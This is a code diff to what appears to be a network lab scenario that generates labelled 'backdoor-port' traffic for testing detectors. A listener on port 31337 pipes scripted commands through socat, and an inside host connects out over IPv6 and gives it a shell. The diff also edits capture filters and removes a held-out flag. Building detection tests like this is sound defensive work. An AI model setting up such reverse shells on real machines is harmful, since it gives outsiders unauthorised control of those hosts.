@@ -3,7 +3,7 @@
 from lab.range import Range
 from lab.scenario import Scenario
 
-ORDERS = "for order in id 'uname -a' 'ls /tmp' id; do sleep 3; echo $order; done; sleep 1"
+ORDERS = "for order in id 'uname -s' 'head -n 12 /etc/services' id; do sleep 3; echo $order; done; sleep 1"
 
 
 def run(net: Range) -> None:
@@ -11,14 +11,12 @@ def run(net: Range) -> None:
     net.everyday()
     with net.attack(
         "backdoor-port",
-        by=[pc3],
-        attackers=[],
-        attacker_known=False,
+        by=[pc3, listener],
+        attackers=[listener.ip6],
         victims=[pc3.ip6],
         others={"client": [pc3.ip6], "server": [listener.ip6]},
         also=["reverse-shell"],
-        frames=f"ip6 and ip6[6] == 6 and dst host {listener.ip6} and dst port 31337",
-        responses=f"ip6 and ip6[6] == 6 and src host {listener.ip6} and src port 31337",
+        frames=f"ip6 and ip6[6] == 6 and host {listener.ip6} and port 31337",
     ):
         net.start(listener, "sh", "-c", f"({ORDERS}) | socat - TCP6-LISTEN:31337,reuseaddr")
         net.quiet(0.7)
@@ -31,6 +29,5 @@ SCENARIO = Scenario(
     about="An inside host calls port 31337 outside over IPv6 and gives it a shell, by socat.",
     detectors=("backdoor-port",),
     tools={"socat": "socat"},
-    held_out=True,
     run=run,
 )
